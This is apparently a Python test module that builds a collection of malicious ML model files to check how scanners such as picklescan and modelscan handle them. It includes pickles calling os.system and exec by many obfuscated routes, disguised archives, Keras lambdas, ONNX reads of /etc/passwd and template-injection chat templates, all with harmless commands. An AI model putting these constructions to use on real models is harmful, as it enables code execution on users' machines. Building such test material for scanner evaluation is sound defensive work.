"""Malicious model files of every class that is publicly known: how they are made, none is ever loaded.

What they would call is harmless (``echo pparse``, ``print('pparse')``, a path that does not exist, the discard port of
this machine); the names are those of advisories, and of the rules and tests of picklescan, fickling, modelscan and
modelaudit. `CALLS` are the functions that a pickle may call, one pickle each; `FORMS` the ways a pickle may say it;
`CONTAINERS` the files a pickle may lie in; `OTHERS` files whose danger is in no pickle. `malicious_files` makes all.

No library is needed. ``python -m tests.interop.make_malicious_zoo`` writes them, and asks the scanners.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Iterator

SHELL = "echo pparse"
CODE = "print('pparse')"
PATH = "/nonexistent/pparse"
URL = "http://127.0.0.1:9/"


class Name(NamedTuple):
    """Something that a pickle names."""

    module: str
    name: str


class Call(NamedTuple):
    """A call that a pickle makes."""

    function: Any
    args: tuple[Any, ...]


def encode(value: Any, protocol: int = 2) -> bytes:
    """Return the opcodes that push a value, names and calls in it included."""
    if isinstance(value, Name):
        if protocol < 4:
            return f"c{value.module}\n{value.name}\n".encode()
        return encode(value.module, protocol) + encode(value.name, protocol) + b"\x93"
    if isinstance(value, Call):
        return encode(value.function, protocol) + encode(value.args, protocol) + b"R"
    if type(value) in (tuple, list, dict):
        parts = [part for pair in value.items() for part in pair] if type(value) is dict else value
        end = {tuple: b"t", list: b"l", dict: b"d"}[type(value)]
        return b"(" + b"".join(encode(part, protocol) for part in parts) + end
    out = io.BytesIO()
    pickler = pickle.Pickler(out, 0 if protocol == 0 and not isinstance(value, bytes) else 3)
    pickler.fast = True
    pickler.dump(value)
    return out.getvalue().removeprefix(b"\x80\x03")[:-1]


def pickled(value: Any, protocol: int = 2) -> bytes:
    """Return the pickle of a value."""
    head = b"" if protocol < 2 else bytes((0x80, protocol))
    return head + encode(value, protocol) + b"."


SYSTEM = Call(Name("os", "system"), (SHELL,))
EVIL = pickled(SYSTEM)
GETATTR = Name("builtins", "getattr")
_TABLE = Path(__file__).resolve().parent / "data" / "malicious_calls.txt"


def _import(module: str) -> Call:
    return Call(Name("builtins", "__import__"), (module,))


# The arguments that a row of CALLS may have.
_ARGS: dict[str, tuple[Any, ...]] = {
    "0": (),
    "C": (CODE,),
    "CC": (CODE, {}),
    "CCC": (CODE, {}, {}),
    "S": (SHELL,),
    "L": (["echo", "pparse"],),
    "SL": ("echo", ["echo", "pparse"]),
    "SLE": ("echo", ["echo", "pparse"], {}),
    "P": (PATH,),
    "PP": (PATH, PATH),
    "PW": (PATH, "w"),
    "U": (URL,),
    "UP": (URL, PATH),
    "M": ("this",),
    "MN": ("os", "system"),
    "B": (EVIL,),
    "H": ("127.0.0.1", 9),
    "A": (("127.0.0.1", 9),),
    "N": (1,),
    "NN": (1, 9),
    "DS": ("", SHELL),
    "X": (None, CODE),
    "OS": (Name("os", "system"), SHELL),
    "OSL": (Name("os", "system"), [SHELL]),
    "OSN": (Name("os", "system"), "__globals__"),
    "SS": (SHELL, SHELL),
    "SP": (SHELL, PATH),
    "MP": ("this", PATH),
    "TT": ("", "", ["sh", "-c", SHELL]),
}


def calls() -> Iterator[tuple[str, Name, tuple[Any, ...]]]:
    """Go through the rows: class, function, arguments."""
    kind = ""
    for line in _TABLE.read_text(encoding="utf-8").splitlines():
        if line.startswith("  "):
            module, name, args = line.split()
            yield kind, Name(module, name), _ARGS[args]
        elif line and not line.startswith("#"):
            kind = line


# -- the ways to say it ----------------------------------------------------------------------------------------------


def _chains() -> Iterator[tuple[str, Any]]:
    """Yield calls whose function is found by other calls."""
    system = Call(GETATTR, (_import("os"), "system"))
    attrgetter = Call(Call(Name("operator", "attrgetter"), ("system",)), (_import("os"),))
    partial = Call(Name("functools", "partial"), (Name("os", "system"), SHELL))
    imported = Call(Name("importlib", "import_module"), ("os",))
    yield "getattr(__import__('os'), 'system')", Call(system, (SHELL,))
    yield "operator.attrgetter('system')(__import__('os'))", Call(attrgetter, (SHELL,))
    yield "functools.partial", Call(partial, ())
    yield "importlib, getattr", Call(Call(GETATTR, (imported, "system")), (SHELL,))
    yield "methodcaller", Call(Call(Name("operator", "methodcaller"), ("system", SHELL)), (_import("os"),))
    yield "map", Call(Name("builtins", "list"), (Call(Name("builtins", "map"), (Name("os", "system"), [SHELL])),))
    yield "reduce", Call(Name("functools", "reduce"), (Name("os", "system"), [SHELL]))
    yield "resolve_name", Call(Call(Name("pkgutil", "resolve_name"), ("os:system",)), (SHELL,))
    yield "locate", Call(Call(Name("pydoc", "locate"), ("os.system",)), (SHELL,))
    globals_of = Call(GETATTR, (Name("collections", "namedtuple"), "__globals__"))
    found = Call(Call(GETATTR, (globals_of, "get")), ("_sys",))
    yield "__globals__ of a harmless function", Call(GETATTR, (found, "modules"))
    yield "a dict's get", Call(Call(GETATTR, (Name("builtins", "__dict__"), "get")), ("eval",))
    yield (
        "eval of text put together",
        Call(Name("builtins", "eval"), (Call(Call(GETATTR, ("", "join")), (["pri", "nt(1)"],)),)),
    )
    yield "compile, exec", Call(Name("builtins", "exec"), (Call(Name("builtins", "compile"), (CODE, "", "exec")),))
    decoded = Call(Name("base64", "b64decode"), (b"cHJpbnQoMSk=",))
    yield "exec of base64", Call(Name("builtins", "exec"), (decoded,))
    yield "exec of zlib", Call(Name("builtins", "exec"), (Call(Name("zlib", "decompress"), (zlib.compress(b"1"),)),))
    yield "exec of codecs", Call(Name("builtins", "exec"), (Call(Name("_codecs", "decode"), (b"31", "hex")),))
    yield "FunctionType of marshal", Call(Name("types", "FunctionType"), (Call(Name("marshal", "loads"), (b"N",)), {}))
    yield "an apply of Python 2", Call(Name("__builtin__", "apply"), (Name("os", "system"), (SHELL,)))
    yield (
        "bytes.fromhex, loads",
        Call(Name("pickle", "loads"), (Call(Name("builtins", "bytes.fromhex"), (EVIL.hex(),)),)),
    )
    yield "loads in loads", Call(Name("pickle", "loads"), (pickled(Call(Name("_pickle", "loads"), (EVIL,))),))
    yield (
        "loads of latin-1 text",
        Call(Name("pickle", "loads"), (Call(Name("_codecs", "encode"), (EVIL.decode("latin1"), "latin1")),)),
    )
    yield "torch.storage._load_from_bytes", Call(Name("torch.storage", "_load_from_bytes"), (EVIL,))
    yield "in a key", {SYSTEM: 1}
    yield "in a list of harmless values", [1, "a", [SYSTEM], None]
    ordered = Name("collections", "OrderedDict")
    yield "among thousands of harmless names", [*[Call(ordered, ())] * 5_000, SYSTEM]
    yield "behind thousands of harmless values", [*range(20_000), SYSTEM]
    yield "an OrderedDict's argument", Call(ordered, ([("weight", SYSTEM)],))
    yield "a harmless name and a bad one", [Name("torch._utils", "_rebuild_tensor_v2"), SYSTEM]
    yield "as the default of a defaultdict", Call(Name("collections", "defaultdict"), (Name("os", "getpid"),))
    yield "named, not called", Name("os", "system")
    yield "a call without arguments", Call(Name("os", "getcwd"), ())
    yield (
        "_rebuild_parameter_with_state",
        Call(Name("torch._utils", "_rebuild_parameter_with_state"), (SYSTEM, True, {}, {})),
    )
    yield (
        "_rebuild_from_type_v2",
        Call(
            Name("torch._tensor", "_rebuild_from_type_v2"),
            (Name("os", "system"), Name("builtins", "str"), (SHELL,), {}),
        ),
    )
    yield (
        "_reconstruct of os.system",
        Call(Name("numpy.core.multiarray", "_reconstruct"), (Name("os", "system"), (0,), b"b")),
    )
    yield (
        "copyreg._reconstructor of Popen",
        Call(Name("copyreg", "_reconstructor"), (Name("subprocess", "Popen"), Name("builtins", "object"), None)),
    )
    yield "_unpickle_block, _make", Call(Name("pandas._libs.internals", "_unpickle_block"), (SYSTEM, 0, 1))


_OPCODES: dict[str, bytes] = {
    # Every opcode that calls.
    "INST": b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.",
    "OBJ": b"(cos\nsystem\nX\x0b\0\0\0echo pparseo.",
    "REDUCE, protocol 0": pickled(SYSTEM, 0),
    "REDUCE, protocol 1": pickled(SYSTEM, 1),
    "REDUCE, protocol 3": pickled(SYSTEM, 3),
    "REDUCE, protocol 4": pickled(SYSTEM, 4),
    "REDUCE, protocol 5": pickled(SYSTEM, 5),
    "NEWOBJ": b"\x80\x02csubprocess\nPopen\n](X\4\0\0\0echoX\6\0\0\0pparsee\x85\x81.",
    "NEWOBJ_EX": b"\x80\4csubprocess\nPopen\n)}X\4\0\0\0argsX\4\0\0\0echos\x92.",
    "OBJ without arguments": b"(cpdb\nPdb\no.",
    "INST without arguments": b"(icode\nInteractiveConsole\n.",
    "BUILD of a __setstate__": (
        b"c__main__\nModel\n)\x81}X\x0c\0\0\0__setstate__cos\nsystem\nsbX\x0b\0\0\0echo pparseb."
    ),
    "BUILD of a module": b"cbuiltins\n__import__\nX\2\0\0\0os\x85R}X\6\0\0\0systemcbuiltins\neval\nsb.",
    "BUILD of slots": b"cos\nenviron\nN}X\4\0\0\0PATHX\1\0\0\0.s\x86b.",
    "SETITEM on os.environ": b"cos\nenviron\nX\4\0\0\0PATHX\1\0\0\0.s.",
    "SETITEMS on sys.modules": b"csys\nmodules\n(X\4\0\0\0jsonX\1\0\0\0.u.",
    "APPEND on sys.path": b"csys\npath\nX\1\0\0\0.a.",
    "APPENDS on sys.meta_path": b"csys\nmeta_path\n(X\1\0\0\0.e.",
    "APPENDS as a call": b"\x80\4cbuiltins\n__import__\n(X\4\0\0\0thise.",
    "EXT1, registered by itself": (
        b"\x80\2ccopyreg\nadd_extension\n(X\2\0\0\0osX\6\0\0\0systemK\xf0tR0\x82\xf0X\x0b\0\0\0echo pparse\x85R."
    ),
    # Names from elsewhere.
    "a name from the memo": b"\x80\4\x8c\2os\x940\x8c\6system\x940h\0h\1\x93\x8c\x0becho pparse\x85R.",
    "a name from a memo with text numbers": (
        b"\x80\4\x8c\2osp7\n0\x8c\6systemp09\n0g007\ng9\n\x93\x8c\x0becho pparse\x85R."
    ),
    "a memo written over": b"\x80\4\x8c\4mathq\0\x8c\2osq\0h\0\x8c\6system\x93\x8c\x0becho pparse\x85R.",
    "MEMOIZE after a PUT": b"\x80\4\x8c\4mathq\1\x8c\2os\x94h\1\x8c\6system\x93\x8c\x0becho pparse\x85R.",
    "a name behind POP": b"\x80\4\x8c\2os\x8c\4math0\x8c\6system\x93\x8c\x0becho pparse\x85R.",
    "a name behind POP_MARK": b"\x80\4\x8c\2os(\x8c\4mathK\1K\x021\x8c\6system\x93\x8c\x0becho pparse\x85R.",
    "a name twice by DUP": b"\x80\4\x8c\4code\x32\x93\x8c\x0becho pparse\x85R.",
    "names of STRING": b"\x80\4S'os'\nS'system'\n\x93S'echo pparse'\n\x85R.",
    "names of BINSTRING": b"\x80\4T\2\0\0\0osU\6system\x93U\x0becho pparse\x85R.",
    "names of UNICODE with escapes": b"\x80\4V\\u006fs\nVsyst\\u0065m\n\x93V echo pparse\n\x85R.",
    "names of BINUNICODE8": b"\x80\4\x8d\2\0\0\0\0\0\0\0os\x8d\6\0\0\0\0\0\0\0system\x93\x8c\x0becho pparse\x85R.",
    "a dotted name": b"\x80\4\x8c\x13torch.serialization\x8c\tos.system\x93\x8c\x0becho pparse\x85R.",
    "a dotted name of GLOBAL": b"\x80\4ctorch.serialization\nos.system\n\x8c\x0becho pparse\x85R.",
    "a dotted name through a class": b"\x80\4cpickle\nsys.modules\n.",
    "a dotted name through collections": b"\x80\4ccollections\n_sys.modules\n.",
    "a dotted name through a function": b"\x80\4crandom\n_os.system\nX\x0b\0\0\0echo pparse\x85R.",
    "a dotted name through __globals__": b"\x80\4ccollections\nnamedtuple.__globals__\n.",
    "a dotted name through logging": b"\x80\4clogging\nos.system\nX\x0b\0\0\0echo pparse\x85R.",
    "the same name by os.path": b"\x80\4cos.path\nos.system\n(S'echo pparse'\ntR.",
    "__main__": b"\x80\4c__main__\nos.system\n(S'echo pparse'\ntR.",
    # Broken behind the call, or before: an unpickler has called by then.
    "cut before STOP": EVIL[:-1],
    "an unknown opcode behind": EVIL[:-1] + b"\xff",
    "text behind the call": EVIL[:-1] + b"X\xff\xff\xff\x7f.",
    "an empty stack behind": EVIL[:-1] + b"000.",
    "a memo that is not there": EVIL[:-1] + b"h\x99.",
    "a number that is none": EVIL[:-1] + b"Ix\n.",
    "a frame that is too long": EVIL[:-1] + b"\x95\xff\xff\xff\xff\0\0\0\0.",
    "a protocol that is not there": EVIL[:-1] + b"\x80\x09.",
    "a call that no one is named for": EVIL[:-1] + b"K\1)R.",
    "text that is not UTF-8": EVIL[:-1] + b"X\1\0\0\0\xff.",
    "a NUL behind each opcode": b"\x80\2cos\nsystem\nX\x0b\0\0\0echo pparse\x85R\0\0\0\0",
    "bytes behind STOP": EVIL + b"\0" * 100,
    "a second pickle": pickled([1, 2]) + EVIL,
    "a second pickle behind other bytes": pickled([1, 2]) + b"\xff\0" + EVIL,
    "two PROTO": b"\x80\4\x80\2" + EVIL[2:],
    "a frame that is too short": b"\x80\4\x95\5\0\0\0\0\0\0\0" + EVIL[2:],
    "a frame that ends in an opcode": b"\x80\4\x95\x12\0\0\0\0\0\0\0" + pickled(SYSTEM, 4)[2:],
    # Odd numbers of protocol 0: what a reader of its own might refuse, or read otherwise.
    "octal": b"I0o17\n0" + pickled(SYSTEM, 0),
    "hexadecimal": b"I0x1f\n0" + pickled(SYSTEM, 0),
    "blanks": b"I 17\n0L  17L\n0" + pickled(SYSTEM, 0),
    "underscores": b"L1_000L\n0" + pickled(SYSTEM, 0),
    "a NUL in a number": b"F1.5\0x\n0" + pickled(SYSTEM, 0),
    "inf": b"F-inf\n0Fnan\n0" + pickled(SYSTEM, 0),
    "True": b"I01\n0I00\n0" + pickled(SYSTEM, 0),
    "a LONG without L": b"L12345678901234567890\n0" + pickled(SYSTEM, 0),
    "an empty LONG4": b"\x8b\0\0\0\x000" + pickled(SYSTEM, 0),
    "a STRING in double quotes": b'S"os"\n0' + pickled(SYSTEM, 0),
    # Values that hide.
    "a name in a list that is appended to": b"](cos\nsystem\nX\x0b\0\0\0echo pparse\x85Re.",
    "a call popped at once": b"cos\nsystem\n(S'echo pparse'\ntR0N.",
    "a call from a changed list": b"\x80\4]q\0\x8c\2osah\0\x85\x8c\4echo0cos\nsystem\n\x8c\x0becho pparse\x85R.",
    "a call behind STOP of a frame": b"\x80\4\x95\2\0\0\0\0\0\0\0N.cos\nsystem\n(S'echo pparse'\ntR.",
    "the magic number of torch as a call": (
        b"\x80\2cbuiltins\neval\nX\x18\0\0\000119547037146038801333356\x85R." + pickled(1001) + pickled({}) + EVIL
    ),
}


def forms() -> Iterator[tuple[str, str, bytes]]:
    """Go through the ways a pickle calls: class, name, pickle."""
    for name, value in _chains():
        yield "chain", name, pickled(value, 4 if "." in name else 2)
    for name, data in _OPCODES.items():
        yield "opcodes", name, data


# -- the files it may lie in -----------------------------------------------------------------------------------------


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    """Return a zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in members.items():
            file.writestr(zipfile.ZipInfo(name), data, method)
    return out.getvalue()


def tar_of(members: dict[str, bytes], mode: str = "w") -> bytes:
    """Return a tar."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as file:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy_of(data: bytes, shape: str = "(1,)", version: int = 1) -> bytes:
    """Return a .npy of objects whose pickle is given."""
    head = f"{{'descr': '|O', 'fortran_order': False, 'shape': {shape}, }}".encode()
    length = 2 if version == 1 else 4
    head += b" " * (-(6 + 2 + length + len(head) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes((version, 0)) + len(head).to_bytes(length, "little") + head + data


def pt_of(data: bytes, folder: str = "archive", more: dict[str, bytes] | None = None) -> bytes:
    """Return a .pt, as torch.save writes it, with this data.pkl."""
    members = {"data.pkl": data, "byteorder": b"little", "data/0": bytes(16), "version": b"3\n", **(more or {})}
    return zip_of({f"{folder}/{name}": part for name, part in members.items()})


def legacy_pt_of(data: bytes, head: bytes | None = None) -> bytes:
    """Return a .pt of before torch 1.6: four pickles and the storages."""
    magic = pickled(0x1950A86A20F9469CFC6C) if head is None else head
    told = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return magic + pickled(1001) + pickled(told) + data + pickled([])


def tar_pt_of(data: bytes) -> bytes:
    """Return a .pt of before torch 0.1.10: a tar of pickles."""
    return tar_of(
        {"sys_info": pickled({"protocol_version": 1000}), "pickle": data, "storages": pickled(0), "tensors": pickled(0)}
    )


def containers() -> Iterator[tuple[str, str, bytes]]:
    """Go through the files that hold a malicious pickle: class, file's name, content."""
    good = pickled({"weight": [1.0, 2.0]})
    jar = pickled(SYSTEM, 4)
    yield "zip", "state.pt", pt_of(EVIL)
    yield "zip", "deflated.pt", zip_of({"archive/data.pkl": EVIL, "archive/version": b"3\n"}, zipfile.ZIP_DEFLATED)
    yield "zip", "no-folder.pt", zip_of({"data.pkl": EVIL, "version": b"3\n"})
    yield "zip", "wrong-extension.png", pt_of(EVIL)
    yield "zip", "no-extension", pt_of(EVIL)
    yield "zip", "two-data.pt", pt_of(good, more={"other/data.pkl": EVIL})
    yield "zip", "deep/two-folders.pt", zip_of({"a/data.pkl": good, "b/data.pkl": EVIL, "a/version": b"3\n"})
    yield "zip", "member-without-extension.pt", pt_of(good, more={"data/1": EVIL})
    yield "zip", "member-of-another-extension.pt", pt_of(good, more={"extra/weights.config": EVIL})
    yield "zip", "protocol-0-member.zip", zip_of({"weights": pickled(SYSTEM, 0)})
    yield "zip", "behind-other-bytes.pt", b"\0" * 512 + pt_of(EVIL)
    yield "zip", "crc-is-wrong.pt", pt_of(EVIL).replace(struct.pack("<I", zlib.crc32(EVIL)), b"\1\2\3\4")
    yield "zip", "flag-encrypted.pt", _with_flag(pt_of(EVIL))
    yield "zip", "names-differ.pt", pt_of(EVIL).replace(b"archive/data.pkl", b"archive/data.txt", 1)
    yield "zip", "zip-in-zip.zip", zip_of({"model.pt": pt_of(EVIL)})
    yield "zip", "without-directory.pt", pt_of(EVIL)[: pt_of(EVIL).index(b"PK\1\2")]
    yield (
        "zip",
        "torchscript.pt",
        zip_of({"code/data.pkl": good, "code/constants.pkl": EVIL, "code/code/m.py": b"", "code/version": b"3\n"}),
    )
    yield (
        "zip",
        "package.pt",
        zip_of({"p/.data/version": b"6\n", "p/model/model.pkl": EVIL, "p/code.py": CODE.encode()}),
    )
    yield "zip", "7z-looking.pt", b"7z\xbc\xaf\x27\x1c" + EVIL
    yield "zip", "model.mar", zip_of({"MAR-INF/MANIFEST.json": b"{}", "model.pkl": EVIL})
    yield "zip", "nemo.nemo", tar_of({"model_config.yaml": b"target: os.system\n", "model_weights.ckpt": pt_of(EVIL)})
    yield "legacy torch", "legacy.pt", legacy_pt_of(EVIL)
    yield "legacy torch", "legacy-other-head.pt", legacy_pt_of(good, EVIL)
    yield "legacy torch", "legacy-third-pickle.bin", pickled(0x1950A86A20F9469CFC6C) + pickled(1001) + EVIL + good
    yield "legacy torch", "tar.pt", tar_pt_of(EVIL)
    yield (
        "legacy torch",
        "tar-tensors.pt",
        tar_of({"sys_info": good, "pickle": good, "storages": good, "tensors": EVIL}),
    )
    yield "numpy", "objects.npy", npy_of(EVIL)
    yield "numpy", "objects-version-3.npy", npy_of(EVIL, version=3)
    yield "numpy", "scalar-of-objects.npy", npy_of(EVIL, shape="()")
    yield "numpy", "empty-shape.npy", npy_of(EVIL, shape="(0,)")
    yield "numpy", "objects.npz", zip_of({"a.npy": npy_of(EVIL), "b.npy": npy_of(good)})
    yield "numpy", "deflated.npz", zip_of({"a.npy": npy_of(EVIL)}, zipfile.ZIP_DEFLATED)
    yield "numpy", "pickle-in.npz", zip_of({"a.pkl": EVIL})
    yield "numpy", "pickle-called.npy", EVIL
    yield "joblib", "plain.joblib", EVIL
    yield "joblib", "zlib.joblib", zlib.compress(jar)
    yield "joblib", "gzip.joblib", gzip.compress(jar)
    yield "joblib", "bz2.joblib", bz2.compress(jar)
    yield "joblib", "xz.joblib", lzma.compress(jar)
    yield "joblib", "lzma.joblib", lzma.compress(jar, lzma.FORMAT_ALONE)
    yield "joblib", "lz4.joblib", _lz4_of(jar)
    array = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}X\5\0\0\0dtypecnumpy\ndtype\nX\1\0\0\0O\x85Rsb"
    yield "joblib", "array-of-objects.joblib", b"\x80\3" + array + EVIL + b"."
    yield "compressed", "model.pkl.gz", gzip.compress(EVIL)
    yield "compressed", "model.pkl.bz2", bz2.compress(EVIL)
    yield "compressed", "model.pkl.xz", lzma.compress(EVIL)
    yield "compressed", "gzip-called.pkl", gzip.compress(EVIL)
    yield "compressed", "model.pth.tar", tar_of({"model.pth": pt_of(EVIL)})
    yield "compressed", "model.tar.gz", tar_of({"model/model.pth": pt_of(EVIL)}, "w:gz")
    yield "compressed", "model.tar.xz", tar_of({"model/legacy.bin": legacy_pt_of(EVIL)}, "w:xz")
    yield "compressed", "sklearn.zip", zip_of({"model.joblib": zlib.compress(jar)}, zipfile.ZIP_DEFLATED)
    yield "compressed", "three-layers.zip", zip_of({"a.tar.gz": tar_of({"m.zip": zip_of({"m.pkl": EVIL})}, "w:gz")})
    yield "compressed", "skops.skops", zip_of({"schema.json": json.dumps(_SKOPS).encode()})
    yield "names", "model.safetensors", EVIL
    yield "names", "model.gguf", EVIL
    yield "names", "model.json", EVIL
    yield "names", "model.onnx", EVIL
    yield "names", "model.h5", EVIL
    yield "names", "model.txt", EVIL
    yield "names", "model.ckpt", EVIL
    yield "names", "model.dat", EVIL
    yield "names", "pytorch_model.bin", EVIL


def _with_flag(data: bytes) -> bytes:
    """Return a zip whose first member claims in its own header, not in the directory, to be encrypted."""
    return data[:6] + b"\1" + data[7:]


def _lz4_of(data: bytes) -> bytes:
    """Return an LZ4 frame with one block as it is (lz4_Frame_format.md): version 1, independent blocks of 64 KiB."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


_SKOPS = {
    "__class__": "partial",
    "__module__": "functools",
    "__loader__": "PartialNode",
    "content": {"func": {"__class__": "function", "__module__": "builtins", "content": "os.system"}},
}


# -- danger without a pickle -----------------------------------------------------------------------------------------


def _field(number: int, value: bytes | str | int) -> bytes:
    """Return a field of a protobuf message: a number, or text and messages."""
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    value = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(value)) + value


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes((*out, value))


def _keras(layer: dict[str, Any], **more: bytes) -> bytes:
    """Return a .keras with this layer."""
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "m", "layers": [layer]}}
    members = {"metadata.json": b'{"keras_version": "3.0.0"}', "config.json": json.dumps(config).encode()}
    return zip_of({**members, "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(8), **more})


def _lambda(module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": "Lambda", "config": {"name": "lambda", **config}, "registered_name": None}


def _saved_model(*ops: str, in_function: bool = False) -> bytes:
    """Return a saved_model.pb (tensorflow/core/protobuf/saved_model.proto) whose graph has nodes of these kinds."""
    nodes = [_field(1, f"n{number}") + _field(2, op) for number, op in enumerate(ops)]
    if in_function:  # GraphDef.library = 2, FunctionDefLibrary.function = 1, FunctionDef.node_def = 3
        graph = _field(2, _field(1, _field(1, _field(1, "f")) + b"".join(_field(3, node) for node in nodes)))
    else:
        graph = b"".join(_field(1, node) for node in nodes)
    return _field(1, 1) + _field(2, _field(1, _field(4, "serve")) + _field(2, graph))


def _onnx(op: str, domain: str = "", **attributes: str) -> bytes:
    """Return an ONNX model (onnx.proto) of one node."""
    given = b"".join(_field(5, _field(1, name) + _field(4, text)) for name, text in attributes.items())
    node = _field(1, "x") + _field(2, "y") + _field(4, op) + given + (_field(7, domain) if domain else b"")
    imports = _field(8, _field(1, domain) + _field(2, 1)) if domain else b""
    return _field(1, 8) + _field(7, _field(1, node) + _field(2, "g")) + imports + _field(8, _field(2, 17))


def _onnx_external(location: str) -> bytes:
    """Return an ONNX model whose weights lie in another file."""
    place = _field(13, _field(1, "location") + _field(2, location))
    tensor = _field(1, 4) + _field(2, 1) + _field(8, "w") + place + _field(14, 1)
    return _field(1, 8) + _field(7, _field(2, "g") + _field(5, tensor)) + _field(8, _field(2, 17))


def _gguf(template: str) -> bytes:
    """Return a GGUF (version 3) with a chat template."""
    key, text = b"tokenizer.chat_template", template.encode()
    pair = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(text)) + text
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pair


_TEMPLATE = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo pparse').read() }}"


def others() -> Iterator[tuple[str, str, bytes]]:
    """Go through the files whose danger is not in a pickle: class, file's name, content."""
    code = "4wEAAAAAAAAAAAAAAAEAAAABAAAAQwAAAHMEAAAAfABTACkBTqkA"
    yield "keras", "lambda.keras", _keras(_lambda(function={"class_name": "__lambda__", "config": {"code": code}}))
    yield "keras", "lambda-list.keras", _keras(_lambda(function=[code, None, None]))
    yield "keras", "module.keras", _keras({"module": "os", "class_name": "system", "config": {"command": SHELL}})
    yield (
        "keras",
        "registered.keras",
        _keras({"module": "builtins", "class_name": "exec", "registered_name": "exec", "config": CODE}),
    )
    yield (
        "keras",
        "nested-lambda.keras",
        _keras(
            {
                "module": "keras.layers",
                "class_name": "TimeDistributed",
                "config": {"layer": _lambda(function=[code, None, None])},
            }
        ),
    )
    yield (
        "keras",
        "get-file.keras",
        _keras({"module": "keras.utils", "class_name": "get_file", "config": {"fname": "x", "origin": URL}}),
    )
    yield "keras", "pickle-beside.keras", _keras(_lambda(function="f"), **{"assets/extra.pkl": EVIL})
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless", "MatchingFiles", "LoadLibrary"):
        yield "saved model", f"{op}/saved_model.pb", _saved_model("Placeholder", op)
    yield "saved model", "in-function/saved_model.pb", _saved_model("Const", "WriteFile", in_function=True)
    yield "saved model", "decode/saved_model.pb", _saved_model("ParseTensor", "PrintV2", "SaveV2", "RestoreV2")
    yield "onnx", "custom-op.onnx", _onnx("PyOp", "ai.onnx.contrib", module="os", func="system")
    yield "onnx", "own-domain.onnx", _onnx("Run", "com.example.evil")
    yield "onnx", "external-data-up.onnx", _onnx_external("../../../../etc/passwd")
    yield "onnx", "external-data-absolute.onnx", _onnx_external("/etc/passwd")
    yield "gguf", "template.gguf", _gguf(_TEMPLATE)
    yield "template", "tokenizer_config.json", json.dumps({"chat_template": _TEMPLATE}).encode()
    yield (
        "template",
        "config.json",
        json.dumps({"auto_map": {"AutoModel": "evil.Model"}, "trust_remote_code": True}).encode(),
    )
    yield "archive", "path-up.zip", zip_of({"../../../pparse": b"x"})
    yield "archive", "absolute.tar", tar_of({"/pparse": b"x"})
    link = tarfile.TarInfo("link")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        file.addfile(link)
    yield "archive", "link-out.tar", out.getvalue()


def malicious_files() -> Iterator[tuple[str, str, bytes]]:
    """Go through all: class, file's name, content."""
    for kind, function, args in calls():
        yield (
            kind,
            f"{function.module}.{function.name}.pkl",
            pickled(Call(function, args), 4 if "." in function.name else 2),
        )
    for kind, name, data in forms():
        yield kind, f"{name.replace('/', '-')}.pkl", data
    yield from containers()
    yield from others()
